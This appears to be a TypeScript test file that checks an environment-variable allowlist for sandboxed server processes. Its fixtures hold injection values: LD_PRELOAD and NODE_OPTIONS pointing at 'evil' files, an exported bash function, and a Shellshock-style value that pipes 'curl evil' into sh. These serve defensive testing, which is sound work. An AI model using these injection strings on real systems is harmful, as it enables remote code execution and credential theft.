import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { InvalidPolicyError } from './errors.js';
import { SANDBOX_ENV_ALLOWLIST, WINDOWS_ENV_ALLOWLIST, sandboxEnv } from './sandbox-env.js';

/** The caller's variables that the allowlist names: what a server may see. */
const ALLOWED = {
  HOME: '/home/ada',
  LOGNAME: 'ada',
  PATH: '/usr/bin:/bin',
  SHELL: '/bin/bash',
  TERM: 'xterm-256color',
  USER: 'ada',
  LANG: 'en_GB.UTF-8',
  LC_ALL: 'C',
  TMPDIR: '/tmp/ada',
  TZ: 'Europe/London',
};

const CALLER = {
  ...ALLOWED,
  OPENAI_API_KEY: 'sk-secret',
  GITHUB_TOKEN: 'ghp_secret',
  SSH_AUTH_SOCK: '/tmp/ssh-agent.sock',
  NODE_OPTIONS: '--require /tmp/evil.js',
  LD_PRELOAD: '/tmp/evil.so',
  'BASH_FUNC_ls%%': '() { echo pwned; }',
  UNSET: undefined,
};

describe('sandboxEnv', () => {
  it('takes only the allowlist from the caller', () => {
    expect(sandboxEnv(CALLER, {}, 'linux')).toEqual(ALLOWED);
  });

  it('puts the server’s own variables on top', () => {
    expect(
      sandboxEnv(
        { PATH: '/usr/bin', LANG: 'C' },
        { LANG: 'de_DE.UTF-8', GITHUB_TOKEN: 'server-token' },
        'linux',
      ),
    ).toEqual({
      PATH: '/usr/bin',
      LANG: 'de_DE.UTF-8',
      GITHUB_TOKEN: 'server-token',
    });
  });

  it('skips exported bash functions, NUL values and non-strings under allowlisted names', () => {
    expect(
      sandboxEnv(
        { SHELL: '() { :; }; curl evil | sh', TERM: 'a\0b', TZ: 42 as never, PATH: '/bin' },
        {},
        'linux',
      ),
    ).toEqual({ PATH: '/bin' });
  });

  it('matches names exactly on POSIX', () => {
    expect(sandboxEnv({ path: '/x', Home: '/y', PATH: '/bin' }, {}, 'darwin')).toEqual({
      PATH: '/bin',
    });
  });

  it('widens the allowlist on Windows and matches names without regard to case', () => {
    const env = sandboxEnv(
      {
        Path: 'C:\\Windows\\system32',
        SYSTEMROOT: 'C:\\Windows',
        'ProgramFiles(x86)': 'C:\\Program Files (x86)',
        userprofile: 'C:\\Users\\ada',
        AZURE_SECRET: 'no',
      },
      { path: 'C:\\tools' },
      'win32',
    );
    expect(env).toEqual({
      SystemRoot: 'C:\\Windows',
      'ProgramFiles(x86)': 'C:\\Program Files (x86)',
      USERPROFILE: 'C:\\Users\\ada',
      path: 'C:\\tools', // the server's own spelling, replacing the caller's Path
    });
    // On Linux those Windows names are not allowed.
    expect(sandboxEnv({ SystemRoot: 'C:\\Windows' }, {}, 'linux')).toEqual({});
  });

  it('keeps a __proto__ variable as an ordinary key', () => {
    const serverEnv = JSON.parse('{"__proto__": "x", "A": "1"}') as Record<string, string>;
    const env = sandboxEnv({}, serverEnv, 'linux');
    expect(Object.getPrototypeOf(env)).toBe(Object.prototype);
    expect(Object.keys(env).sort()).toEqual(['A', '__proto__']);
  });

  it.each([
    [{ '': 'x' }, 'env'],
    [{ 'A=B': 'x' }, 'env'],
    [{ 'A\0': 'x' }, 'env'],
    [{ A: 'x\0' }, 'env.A'],
    [{ A: 1 as never }, 'env.A'],
  ])('refuses the server variable %j', (serverEnv, field) => {
    let error: unknown;
    try {
      sandboxEnv({}, serverEnv, 'linux');
    } catch (e) {
      error = e;
    }
    expect(InvalidPolicyError.isInstance(error)).toBe(true);
    expect((error as InvalidPolicyError).field).toBe(field);
  });

  it('never lets anything but the allowlist and the server’s own names through (property)', () => {
    const name = fc.oneof(
      fc.constantFrom(...SANDBOX_ENV_ALLOWLIST, ...WINDOWS_ENV_ALLOWLIST, 'SECRET', 'path'),
      fc.string({ minLength: 1, maxLength: 12 }),
    );
    const value = fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.constant('() { :; }'),
      fc.constant(undefined),
    );
    const usable = /^[^=\0]+$/;
    fc.assert(
      fc.property(
        fc.dictionary(name, value),
        fc.dictionary(
          name.filter((n) => usable.test(n)),
          fc.string({ maxLength: 12 }).filter((v) => !v.includes('\0')),
        ),
        fc.constantFrom<NodeJS.Platform>('linux', 'darwin', 'win32'),
        (base, server, platform) => {
          const env = sandboxEnv(base, server, platform);
          const windows = platform === 'win32';
          const allowed = (
            windows ? [...SANDBOX_ENV_ALLOWLIST, ...WINDOWS_ENV_ALLOWLIST] : SANDBOX_ENV_ALLOWLIST
          ).map((n) => (windows ? n.toLowerCase() : n));
          for (const [key, val] of Object.entries(env)) {
            if (Object.hasOwn(server, key)) {
              if (!windows) expect(val).toBe(server[key]);
              continue;
            }
            expect(allowed).toContain(windows ? key.toLowerCase() : key);
            expect(val.startsWith('()')).toBe(false);
          }
          for (const key of Object.keys(server)) {
            // On Windows two server names that differ only in case are one variable: one wins.
            const twins = Object.keys(server).filter((k) => k.toLowerCase() === key.toLowerCase());
            if (windows && twins.length > 1) continue;
            expect(env[key]).toBe(server[key]);
          }
        },
      ),
    );
  });
});
